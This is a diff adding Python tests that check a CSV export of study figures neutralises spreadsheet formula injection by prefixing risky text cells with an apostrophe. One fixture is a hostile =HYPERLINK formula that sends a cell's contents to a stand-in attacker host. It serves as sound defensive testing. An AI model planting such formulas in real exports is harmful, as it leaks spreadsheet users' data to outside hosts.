@@ -111,3 +111,32 @@ def test_each_row_says_what_its_figure_measures_and_rests_on() -> None:
         "publication",
         "caveats",
     }
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base) -> None:  # type: ignore[no-untyped-def]
+    # OWASP CSV injection: a text cell starting with = + - @ (or tab, CR) is a formula.
+    row = export.rows(base)[0] | {
+        "note": '=HYPERLINK("https://evil.example/?"&A1,"details")',
+        "quote": "+1 patient",
+        "subgroup": "-2 to 3",
+        "arm": "@SUM(A1:A9)",
+        "location": "\tTable 2",
+        "cohort_label": "\r=1+1",
+        "value": -0.5,
+    }
+    (parsed,) = list(csv.DictReader(io.StringIO(export.to_csv([row]), newline="")))
+    assert parsed["note"] == "'" + row["note"]
+    assert parsed["quote"] == "'+1 patient"
+    assert parsed["subgroup"] == "'-2 to 3"
+    assert parsed["arm"] == "'@SUM(A1:A9)"
+    assert parsed["location"] == "'\tTable 2"
+    assert parsed["cohort_label"] == "'\r=1+1"
+    assert parsed["value"] == "-0.5"  # a number stays a number
+
+
+def test_no_exported_text_cell_starts_like_a_formula(base) -> None:  # type: ignore[no-untyped-def]
+    for parsed in csv.DictReader(io.StringIO(export.to_csv(export.rows(base)))):
+        for name, cell in parsed.items():
+            if cell.startswith(export.FORMULA_START):
+                float(cell)  # only numbers may start with - or +
+                assert name in ("value", "ci_low", "ci_high", "range_low", "range_high"), name
